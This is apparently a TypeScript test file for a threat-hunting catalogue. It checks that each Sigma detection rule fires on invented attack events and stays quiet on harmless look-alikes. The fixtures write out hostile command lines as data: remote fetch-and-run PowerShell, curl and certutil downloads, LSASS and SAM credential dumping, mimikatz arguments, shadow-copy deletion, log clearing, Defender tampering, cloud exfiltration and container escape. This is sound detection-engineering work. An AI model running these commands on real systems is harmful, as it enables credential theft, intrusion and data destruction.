// Each catalogue Sigma detection against invented events: the behaviour the hunt's KQL looks for matches, a
// look-alike does not. Evaluated by test/support/sigma-eval.ts (a small Sigma matcher), so a typo in a modifier,
// a missing backslash or an inverted filter fails here.
import { strict as assert } from 'node:assert';
import { catalogue } from '../../../src/engine/hunts/catalogue';
import { sigmaMatches, type SigmaEvent } from '../../support/sigma-eval';

const W = 'C:\\Windows\\System32\\';
const U = 'C:\\Users\\kim\\AppData\\Local\\Temp\\';
const proc = (Image: string, CommandLine: string, ParentImage = 'C:\\Windows\\explorer.exe', extra: SigmaEvent = {}): SigmaEvent => ({ Image, CommandLine, ParentImage, ...extra });
const file = (TargetFilename: string, Image = 'C:\\Program Files\\Tool\\tool.exe'): SigmaEvent => ({ TargetFilename, Image });
const nix = (Image: string, CommandLine: string, ParentImage = '/usr/bin/bash', ParentCommandLine = 'bash'): SigmaEvent => ({ Image, CommandLine, ParentImage, ParentCommandLine });

const EVENTS: Record<string, { fire: SigmaEvent[]; quiet: SigmaEvent[] }> = {
  UC_OFFICE_SPAWNS_SCRIPT_HOST: {
    fire: [proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell -c iwr', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE')],
    quiet: [proc(`${W}cmd.exe`, 'cmd /c dir', 'C:\\Windows\\explorer.exe'), proc('C:\\Program Files\\Microsoft Office\\root\\Office16\\splwow64.exe', 'x', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE')],
  },
  UC_HTML_SMUGGLING: {
    fire: [file('C:\\Users\\kim\\Downloads\\invoice.iso', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe')],
    quiet: [file('C:\\Users\\kim\\Downloads\\report.pdf', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'), file('C:\\Users\\kim\\Downloads\\a.iso', `${W}svchost.exe`)],
  },
  UC_DISK_IMAGE_LNK_DELIVERY: {
    fire: [proc('E:\\setup.exe', 'E:\\setup.exe'), proc(`${W}cmd.exe`, 'cmd /c "E:\\Documents.lnk"')],
    quiet: [proc('C:\\Program Files\\App\\app.exe', 'app.exe'), proc('E:\\setup.exe', 'E:\\setup.exe', `${W}services.exe`)],
  },
  UC_CLICKFIX_PASTED_COMMAND: {
    fire: [{ TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a', Details: 'powershell -w h -c "iex(irm https://x.invalid)"\\1' }],
    quiet: [{ TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\b', Details: 'notepad\\1' }],
  },
  UC_PUBLIC_APP_SPAWNS_SHELL: {
    fire: [proc(`${W}cmd.exe`, 'cmd /c whoami', `${W}inetsrv\\w3wp.exe`), proc(`${W}cmd.exe`, 'cmd /c whoami', 'C:\\tomcat9\\bin\\tomcat9.exe')],
    quiet: [proc(`${W}conhost.exe`, 'conhost', `${W}inetsrv\\w3wp.exe`)],
  },
  UC_WEB_SHELL_WRITTEN: {
    fire: [file('C:\\inetpub\\wwwroot\\aspnet_client\\help.aspx', `${W}inetsrv\\w3wp.exe`)],
    quiet: [file('C:\\inetpub\\logs\\LogFiles\\u_ex01.log'), file('C:\\Users\\dev\\site\\index.php')],
  },
  UC_PACKAGE_INSTALL_SCRIPT: {
    fire: [nix('/usr/bin/curl', 'curl -s http://203.0.113.9/x.sh', '/usr/bin/node', 'node install.js')],
    quiet: [nix('/usr/bin/curl', 'curl -s http://203.0.113.9/x.sh', '/usr/bin/bash', 'bash'), nix('/usr/bin/sh', 'sh -c node-gyp rebuild', '/usr/bin/node', 'node install.js')],
  },
  UC_ENCODED_POWERSHELL: {
    fire: [proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe -nop -w hidden -enc SQBFAFgA'), proc('C:\\tools\\ps.exe', 'ps.exe -ec SQBFAFgA x', undefined, { OriginalFileName: 'PowerShell.EXE' })],
    quiet: [proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe -File C:\\scripts\\backup.ps1'), proc(`${W}cmd.exe`, 'cmd /c echo -enc x')],
  },
  UC_CERTUTIL_DOWNLOAD_DECODE: {
    fire: [proc(`${W}certutil.exe`, 'certutil -urlcache -split -f http://198.51.100.7/a.txt a.exe'), proc('C:\\ProgramData\\cu.exe', 'cu.exe -decode in.b64 out.dll', undefined, { OriginalFileName: 'CertUtil.exe' })],
    quiet: [proc(`${W}certutil.exe`, 'certutil -store my')],
  },
  UC_BITSADMIN_TRANSFER: {
    fire: [proc(`${W}bitsadmin.exe`, 'bitsadmin /transfer j /download http://x.invalid/a C:\\a'), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Start-BitsTransfer -Source http://x.invalid/a')],
    quiet: [proc(`${W}bitsadmin.exe`, 'bitsadmin /list /allusers')],
  },
  UC_MSHTA_REMOTE_SCRIPT: {
    fire: [proc(`${W}mshta.exe`, 'mshta https://x.invalid/a.hta'), proc(`${W}mshta.exe`, `mshta ${U}a.hta`)],
    quiet: [proc(`${W}mshta.exe`, 'mshta C:\\Program Files\\Vendor\\help.hta')],
  },
  UC_RUNDLL32_UNUSUAL_DLL: {
    fire: [proc(`${W}rundll32.exe`, `rundll32.exe ${U}x.dll,Start`), proc(`${W}rundll32.exe`, 'rundll32.exe C:\\data\\x.dll,#1'), proc(`${W}rundll32.exe`, `"${W}rundll32.exe"`), proc(`${W}rundll32.exe`, 'rundll32 C:\\data\\img.png,Run')],
    quiet: [proc(`${W}rundll32.exe`, 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'), proc(`${W}rundll32.exe`, 'rundll32.exe C:\\Program Files\\Vendor\\v.dll,Init')],
  },
  UC_REGSVR32_SCRIPTLET: {
    fire: [proc(`${W}regsvr32.exe`, 'regsvr32 /s /n /u /i:http://x.invalid/a.sct scrobj.dll'), proc(`${W}regsvr32.exe`, `regsvr32 /s ${U}x.dll`)],
    quiet: [proc(`${W}regsvr32.exe`, 'regsvr32 /s C:\\Program Files\\Vendor\\v.dll')],
  },
  UC_WMI_PROCESS_CREATION: {
    fire: [proc(`${W}cmd.exe`, 'cmd /c whoami', `${W}wbem\\WmiPrvSE.exe`), proc(`${W}wbem\\WMIC.exe`, 'wmic process call create calc.exe'), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Invoke-CimMethod -ClassName Win32_Process -MethodName Create')],
    quiet: [proc(`${W}wbem\\WMIC.exe`, 'wmic process list brief'), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Get-CimInstance Win32_Process')],
  },
  UC_SCRIPT_HOST_USER_PATH: {
    fire: [proc(`${W}wscript.exe`, 'wscript.exe C:\\Users\\kim\\Downloads\\invoice.js')],
    quiet: [proc(`${W}cscript.exe`, 'cscript.exe C:\\Windows\\System32\\slmgr.vbs /dli'), proc(`${W}wscript.exe`, 'wscript.exe C:\\Users\\kim\\Downloads\\notes.txt')],
  },
  UC_MSIEXEC_REMOTE_PACKAGE: {
    fire: [proc(`${W}msiexec.exe`, 'msiexec /q /i https://x.invalid/p.msi')],
    quiet: [proc(`${W}msiexec.exe`, 'msiexec /i C:\\Installers\\agent.msi'), proc(`${W}msiexec.exe`, 'msiexec /x https://x.invalid/p.msi')],
  },
  UC_SCHEDULED_TASK_CREATED: {
    fire: [proc(`${W}schtasks.exe`, 'schtasks /create /tn upd /tr "powershell -w hidden" /sc onlogon')],
    quiet: [proc(`${W}schtasks.exe`, 'schtasks /query /tn upd'), proc(`${W}schtasks.exe`, 'schtasks /create /tn backup /tr C:\\Tools\\backup.exe /sc daily')],
  },
  UC_REGISTRY_RUN_KEY: {
    fire: [{ TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd', Details: `${U}upd.exe` }],
    quiet: [{ TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\vendor', Details: 'C:\\Program Files\\Vendor\\tray.exe' }, { TargetObject: 'HKLM\\SOFTWARE\\Vendor\\Settings\\x', Details: 'powershell' }],
  },
  UC_NEW_SERVICE_INSTALLED: {
    fire: [{ Provider_Name: 'Service Control Manager', EventID: 7045, ImagePath: 'cmd.exe /c powershell -enc SQBFAFgA' }],
    quiet: [{ Provider_Name: 'Service Control Manager', EventID: 7045, ImagePath: 'C:\\Program Files\\Vendor\\svc.exe' }, { Provider_Name: 'Service Control Manager', EventID: 7036, ImagePath: 'cmd /c x' }],
  },
  UC_LINUX_CRON_PERSISTENCE: {
    fire: [{ TargetFilename: '/etc/cron.d/sync', Image: '/usr/bin/bash' }],
    quiet: [{ TargetFilename: '/etc/cron.daily/logrotate', Image: '/usr/bin/dpkg' }, { TargetFilename: '/etc/hosts', Image: '/usr/bin/bash' }],
  },
  UC_SYSTEMD_UNIT_PERSISTENCE: {
    fire: [{ TargetFilename: '/etc/systemd/system/dbus-helper.service', Image: '/usr/bin/python3' }],
    quiet: [{ TargetFilename: '/etc/systemd/system/multi-user.target.wants/x.service', Image: '/usr/bin/python3' }, { TargetFilename: '/lib/systemd/system/nginx.service', Image: '/usr/bin/dpkg' }],
  },
  UC_BROWSER_EXTENSION_SIDELOAD: {
    fire: [{ TargetObject: 'HKLM\\SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist\\1', Details: 'abcdefghijklmnopabcdefghijklmnop' }],
    quiet: [{ TargetObject: 'HKLM\\SOFTWARE\\Policies\\Google\\Chrome\\HomepageLocation', Details: 'https://intranet.example' }],
  },
  UC_STARTUP_FOLDER_DROP: {
    fire: [file('C:\\Users\\kim\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.vbs', `${W}wscript.exe`)],
    quiet: [file('C:\\Users\\kim\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\desktop.ini', 'C:\\Windows\\explorer.exe'), file('C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\agent.lnk', `${W}msiexec.exe`)],
  },
  UC_WMI_EVENT_SUBSCRIPTION: {
    fire: [proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Set-WmiInstance -Class __EventFilter -Namespace root\\subscription'), proc(`${W}wbem\\mofcomp.exe`, 'mofcomp C:\\ProgramData\\x.mof', `${W}cmd.exe`)],
    quiet: [proc(`${W}wbem\\mofcomp.exe`, 'mofcomp vendor.mof', `${W}msiexec.exe`)],
  },
  UC_SSH_AUTHORIZED_KEYS_CHANGE: {
    fire: [{ TargetFilename: '/root/.ssh/authorized_keys', Image: '/usr/bin/bash' }],
    quiet: [{ TargetFilename: '/home/ops/.ssh/authorized_keys', Image: '/usr/bin/cloud-init' }, { TargetFilename: '/home/ops/.ssh/known_hosts', Image: '/usr/bin/ssh' }],
  },
  UC_EVENT_LOG_CLEARING_COMMAND: {
    fire: [proc(`${W}wevtutil.exe`, 'wevtutil cl Security'), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Clear-EventLog -LogName System')],
    quiet: [proc(`${W}wevtutil.exe`, 'wevtutil qe Security /c:5'), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Get-EventLog -LogName System')],
  },
  UC_AUDIT_LOG_CLEARED_EVENT: {
    fire: [{ EventID: 1102, Provider_Name: 'Microsoft-Windows-Eventlog' }],
    quiet: [{ EventID: 4624, Provider_Name: 'Microsoft-Windows-Security-Auditing' }],
  },
  UC_DEFENDER_TAMPERING: {
    fire: [proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Set-MpPreference -DisableRealtimeMonitoring $true'), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Add-MpPreference -ExclusionPath C:\\ProgramData'), proc(`${W}sc.exe`, 'sc stop WinDefend')],
    quiet: [proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Set-MpPreference -SignatureUpdateInterval 4'), proc(`${W}sc.exe`, 'sc query WinDefend')],
  },
  UC_MASQUERADING_SYSTEM_BINARY: {
    fire: [proc('C:\\Users\\Public\\svchost.exe', 'svchost.exe'), proc('C:\\Windows\\System32\\scvhost.exe', 'scvhost.exe')],
    quiet: [proc(`${W}svchost.exe`, 'svchost.exe -k netsvcs'), proc('C:\\Windows\\explorer.exe', 'explorer.exe')],
  },
  UC_RENAMED_SYSTEM_UTILITY: {
    fire: [proc('C:\\ProgramData\\update.exe', 'update.exe -p x', undefined, { OriginalFileName: 'rclone.exe' })],
    quiet: [proc('C:\\Tools\\rclone.exe', 'rclone copy', undefined, { OriginalFileName: 'rclone.exe' }), proc('C:\\Tools\\procdump64.exe', 'procdump64 -ma 4', undefined, { OriginalFileName: 'procdump' })],
  },
  UC_SELF_DELETING_PAYLOAD: {
    fire: [proc(`${W}cmd.exe`, `cmd /c ping 127.0.0.1 -n 3 > nul & del ${U}a.exe`), proc(`${W}cmd.exe`, `cmd /c timeout /t 5 & del /f ${U}a.exe`)],
    quiet: [proc(`${W}cmd.exe`, 'cmd /c del C:\\build\\*.obj')],
  },
  UC_HIDDEN_FILE_ATTRIBUTE: {
    fire: [proc(`${W}attrib.exe`, 'attrib +h +s C:\\ProgramData\\svc\\x.exe')],
    quiet: [proc(`${W}attrib.exe`, 'attrib -h C:\\ProgramData\\svc\\x.exe'), proc(`${W}attrib.exe`, 'attrib +r D:\\share\\report')],
  },
  UC_LSASS_DUMP_COMMAND: {
    fire: [proc(`${W}rundll32.exe`, 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full'), proc('C:\\Tools\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe out.dmp')],
    quiet: [proc('C:\\Tools\\procdump64.exe', 'procdump64.exe -ma app.exe app.dmp')],
  },
  UC_LSASS_HANDLE_ACCESS: {
    fire: [{ TargetImage: `${W}lsass.exe`, SourceImage: 'C:\\Users\\kim\\x.exe', GrantedAccess: '0x1010' }],
    quiet: [{ TargetImage: `${W}lsass.exe`, SourceImage: 'C:\\Users\\kim\\x.exe', GrantedAccess: '0x1000' }, { TargetImage: `${W}lsass.exe`, SourceImage: `${W}svchost.exe`, GrantedAccess: '0x1410' }],
  },
  UC_KERBEROASTING: {
    fire: [proc('C:\\Tools\\r.exe', 'r.exe kerberoast /outfile:h.txt'), proc(`${W}setspn.exe`, 'setspn -q */*')],
    quiet: [proc(`${W}setspn.exe`, 'setspn -L svc_sql')],
  },
  UC_ASREP_ROASTING: {
    fire: [proc('C:\\Python\\python.exe', 'python GetNPUsers.py corp.example/ -usersfile u.txt')],
    quiet: [proc('C:\\Python\\python.exe', 'python report.py')],
  },
  UC_DCSYNC_REPLICATION: {
    fire: [{ EventID: 4662, AccessMask: '0x100', Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}', SubjectUserName: 'helpdesk2' }],
    quiet: [{ EventID: 4662, AccessMask: '0x100', Properties: '{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}', SubjectUserName: 'DC02$' }, { EventID: 4662, AccessMask: '0x100', Properties: '{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}', SubjectUserName: 'MSOL_0a1b2c' }],
  },
  UC_BROWSER_CREDENTIAL_THEFT: {
    fire: [file('C:\\Users\\kim\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data', 'C:\\Users\\kim\\AppData\\Local\\Temp\\s.exe')],
    quiet: [file('C:\\Users\\kim\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe')],
  },
  UC_CRYPTO_WALLET_FILE_ACCESS: {
    fire: [file('C:\\Users\\kim\\AppData\\Roaming\\Electrum\\wallets\\default_wallet', `${U}s.exe`), file('C:\\Users\\kim\\AppData\\Roaming\\Bitcoin\\wallet.dat', `${U}s.exe`)],
    quiet: [file('C:\\Users\\kim\\AppData\\Roaming\\Electrum\\wallets\\default_wallet', 'C:\\Program Files\\Electrum\\electrum.exe')],
  },
  UC_SAM_HIVE_DUMP: {
    fire: [proc(`${W}reg.exe`, 'reg save HKLM\\SAM C:\\temp\\s'), proc(`${W}cmd.exe`, 'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\t\\s')],
    quiet: [proc(`${W}reg.exe`, 'reg save HKLM\\SOFTWARE\\Vendor C:\\temp\\v'), proc(`${W}reg.exe`, 'reg query HKLM\\SAM')],
  },
  UC_NTDS_DIT_EXTRACTION: {
    fire: [proc(`${W}ntdsutil.exe`, 'ntdsutil "ac i ntds" ifm "create full C:\\t" q q'), proc(`${W}vssadmin.exe`, 'vssadmin create shadow /for=C:')],
    quiet: [proc(`${W}vssadmin.exe`, 'vssadmin list shadows'), proc(`${W}ntdsutil.exe`, 'ntdsutil "metadata cleanup"')],
  },
  UC_CREDENTIAL_DUMPER_COMMANDLINE: {
    fire: [proc('C:\\Users\\Public\\m.exe', 'm.exe privilege::debug sekurlsa::logonpasswords exit'), proc('C:\\Users\\Public\\t.exe', 't.exe', undefined, { OriginalFileName: 'mimikatz.exe' })],
    quiet: [proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Get-Process lsass')],
  },
  UC_PSEXEC_REMOTE_SERVICE: {
    fire: [proc(`${W}cmd.exe`, 'cmd /c whoami', 'C:\\Windows\\PSEXESVC.exe'), proc('C:\\Tools\\PsExec64.exe', 'PsExec64.exe \\\\fs01 -s cmd'), proc(`${W}cmd.exe`, 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.5 2>&1', `${W}services.exe`)],
    quiet: [proc('C:\\Tools\\PsExec64.exe', 'PsExec64.exe -s cmd'), proc(`${W}cmd.exe`, 'cmd /c dir', `${W}services.exe`)],
  },
  UC_REMOTE_SERVICE_CREATION: {
    fire: [proc(`${W}sc.exe`, 'sc \\\\fs01 create upd binPath= C:\\Windows\\Temp\\u.exe'), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'New-Service -Name u -BinaryPathName C:\\u.exe -ComputerName fs01')],
    quiet: [proc(`${W}sc.exe`, 'sc create upd binPath= C:\\u.exe'), proc(`${W}sc.exe`, 'sc \\\\fs01 query upd')],
  },
  UC_WMI_REMOTE_EXECUTION: {
    fire: [proc(`${W}wbem\\WMIC.exe`, 'wmic /node:fs01 process call create "cmd /c x"'), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Invoke-WmiMethod -ComputerName fs01 -Class Win32_Process -Name Create')],
    quiet: [proc(`${W}wbem\\WMIC.exe`, 'wmic process call create calc'), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Invoke-WmiMethod -Class Win32_Process -Name Create')],
  },
  UC_WINRM_REMOTING: {
    fire: [proc(`${W}whoami.exe`, 'whoami', `${W}wsmprovhost.exe`), proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Invoke-Command -ComputerName fs01 -ScriptBlock { hostname }')],
    quiet: [proc(`${W}WindowsPowerShell\\v1.0\\powershell.exe`, 'Invoke-Command -ScriptBlock { hostname }')],
  },
  UC_RMM_TOOLS: {
    fire: [proc('C:\\Users\\kim\\Downloads\\AnyDesk.exe', 'AnyDesk.exe'), proc('C:\\ProgramData\\r.exe', 'r.exe', undefined, { OriginalFileName: 'rustdesk.exe' })],
    quiet: [proc('C:\\Program Files\\Notepad++\\notepad++.exe', 'notepad++.exe')],
  },
  UC_DISCOVERY_BURST: {
    fire: [proc(`${W}nltest.exe`, 'nltest /domain_trusts'), proc('C:\\Users\\Public\\af.exe', 'af.exe -f objectcategory=computer', undefined, { OriginalFileName: 'AdFind.exe' })],
    quiet: [proc(`${W}notepad.exe`, 'notepad')],
  },
  UC_DNS_TUNNELLING: {
    fire: [{ QueryName: 'a3f9c2e1b7d4a3f9c2e1b7d4a3f9c2e1b7d4.t.example.test' }],
    quiet: [{ QueryName: 'www.example.test' }],
  },
  UC_TUNNELLING_TOOLS: {
    fire: [proc('C:\\Users\\kim\\ngrok.exe', 'ngrok tcp 3389'), proc('C:\\ProgramData\\c.exe', 'c.exe tunnel --url http://localhost:8080'), proc('C:\\ProgramData\\p.exe', 'p.exe -R 0.0.0.0:4444:127.0.0.1:3389 user@198.51.100.3')],
    quiet: [proc('C:\\Program Files\\Microsoft VS Code\\Code.exe', 'Code.exe --folder-uri x')],
  },
  UC_C2_OVER_LEGIT_SERVICES: {
    fire: [{ DestinationHostname: 'api.telegram.org', Image: 'C:\\ProgramData\\svc.exe' }],
    quiet: [{ DestinationHostname: 'api.telegram.org', Image: 'C:\\Users\\kim\\AppData\\Roaming\\Telegram Desktop\\Telegram.exe' }, { DestinationHostname: 'updates.example.test', Image: 'C:\\ProgramData\\svc.exe' }],
  },
  UC_SHADOW_COPY_DELETION: {
    fire: [proc(`${W}vssadmin.exe`, 'vssadmin delete shadows /all /quiet'), proc(`${W}bcdedit.exe`, 'bcdedit /set {default} recoveryenabled no'), proc(`${W}wbadmin.exe`, 'wbadmin delete catalog -quiet')],
    quiet: [proc(`${W}vssadmin.exe`, 'vssadmin list shadows'), proc(`${W}bcdedit.exe`, 'bcdedit /enum')],
  },
  UC_RANSOMWARE_MASS_RENAME: {
    fire: [file('C:\\Shares\\Finance\\q3.xlsx.lockd', 'C:\\Users\\Public\\e.exe')],
    quiet: [file('C:\\Users\\kim\\AppData\\Local\\Temp\\x.tmp', 'C:\\Users\\Public\\e.exe')],
  },
  UC_RANSOM_NOTE_CREATION: {
    fire: [file('C:\\Shares\\Finance\\HOW_TO_RESTORE.txt', 'C:\\Users\\Public\\e.exe')],
    quiet: [file('C:\\Shares\\Finance\\q3.xlsx', 'C:\\Users\\Public\\e.exe')],
  },
  UC_ARCHIVE_STAGING: {
    fire: [proc('C:\\Program Files\\7-Zip\\7z.exe', '7z.exe a -pS3cret out.7z C:\\Shares\\Finance'), proc('C:\\Program Files\\WinRAR\\rar.exe', 'rar.exe a -v100m -r out.rar C:\\Shares')],
    quiet: [proc('C:\\Program Files\\7-Zip\\7z.exe', '7z.exe x archive.7z'), proc('C:\\Program Files\\WinRAR\\rar.exe', 'rar.exe a -r out.rar docs')],
  },
  UC_CLOUD_STORAGE_EXFIL: {
    fire: [proc('C:\\Users\\Public\\rclone.exe', 'rclone.exe copy C:\\Shares remote:bucket'), proc('C:\\Users\\Public\\sv.exe', 'sv.exe copy C:\\Shares mega:/dump --transfers 8')],
    quiet: [proc(`${W}robocopy.exe`, 'robocopy C:\\a D:\\b /mir')],
  },
  UC_MFA_FATIGUE: {
    fire: [{ ResultType: 500121, UserPrincipalName: 'kim@corp.example' }],
    quiet: [{ ResultType: 0, UserPrincipalName: 'kim@corp.example' }],
  },
  UC_CONTAINER_ESCAPE: {
    fire: [nix('/usr/bin/nsenter', 'nsenter -t 1 -m -u -i -n sh'), nix('/usr/bin/docker', 'docker run --privileged -it alpine sh'), nix('/usr/bin/mount', 'mount /dev/sda1 /mnt/host')],
    quiet: [nix('/usr/bin/docker', 'docker run -it alpine sh'), nix('/usr/bin/mount', 'mount -t tmpfs none /tmp/x')],
  },
  UC_KUBECTL_EXEC: {
    fire: [nix('/usr/local/bin/kubectl', 'kubectl exec -it web-0 -- sh'), nix('/bin/sh', 'sh', '/usr/bin/containerd-shim-runc-v2')],
    quiet: [nix('/usr/local/bin/kubectl', 'kubectl get pods'), nix('/bin/sh', 'sh', '/usr/sbin/sshd')],
  },
};

describe('hunt catalogue: Sigma detections on invented events', () => {
  const hunts = catalogue().filter((h) => h.sigma);

  it('every hunt with a Sigma detection has events here', () => {
    assert.deepEqual(hunts.map((h) => h.id).filter((id) => !EVENTS[id]), []);
    assert.deepEqual(Object.keys(EVENTS).filter((id) => !hunts.some((h) => h.id === id)), []);
  });

  for (const h of hunts) {
    it(`${h.id}: fires on its behaviour, quiet on a look-alike`, () => {
      const spec = h.sigma!;
      const e = EVENTS[h.id];
      assert.ok(e.fire.length && e.quiet.length);
      for (const ev of e.fire) assert.ok(sigmaMatches(spec.detection, spec.condition, ev), `fires: ${JSON.stringify(ev)}`);
      for (const ev of e.quiet) assert.ok(!sigmaMatches(spec.detection, spec.condition, ev), `quiet: ${JSON.stringify(ev)}`);
    });
  }
});

describe('the test Sigma matcher itself', () => {
  it('reads wildcards, escapes, modifiers and condition precedence as Sigma does', () => {
    const d = {
      a: { 'CommandLine|contains': 'x\\*y' },
      b: { 'CommandLine|contains|all': ['p', 'q'] },
      c: [{ Image: '*\\cmd.exe' }, { Image: 'C:\\a?c.exe' }],
    };
    assert.ok(sigmaMatches(d, 'a', { CommandLine: 'run x*y now' }));
    assert.ok(!sigmaMatches(d, 'a', { CommandLine: 'run xzy now' }), 'an escaped star is literal');
    assert.ok(sigmaMatches(d, 'b', { CommandLine: 'P then Q' }), 'case-insensitive, all values');
    assert.ok(!sigmaMatches(d, 'b', { CommandLine: 'p only' }));
    assert.ok(sigmaMatches(d, 'c', { Image: 'C:\\abc.exe' }) && sigmaMatches(d, 'c', { Image: 'D:\\x\\CMD.EXE' }));
    assert.ok(!sigmaMatches(d, 'c', { Image: 'C:\\abbc.exe' }));
    assert.ok(sigmaMatches(d, 'a or b and c', { CommandLine: 'x*y' }), 'and binds tighter than or');
    assert.ok(!sigmaMatches(d, '(a or b) and c', { CommandLine: 'x*y' }));
    assert.ok(sigmaMatches(d, 'not 1 of c* and a', { CommandLine: 'x*y', Image: 'C:\\other.exe' }));
    assert.throws(() => sigmaMatches(d, 'a and typo', {}), /unknown selection/);
  });
});
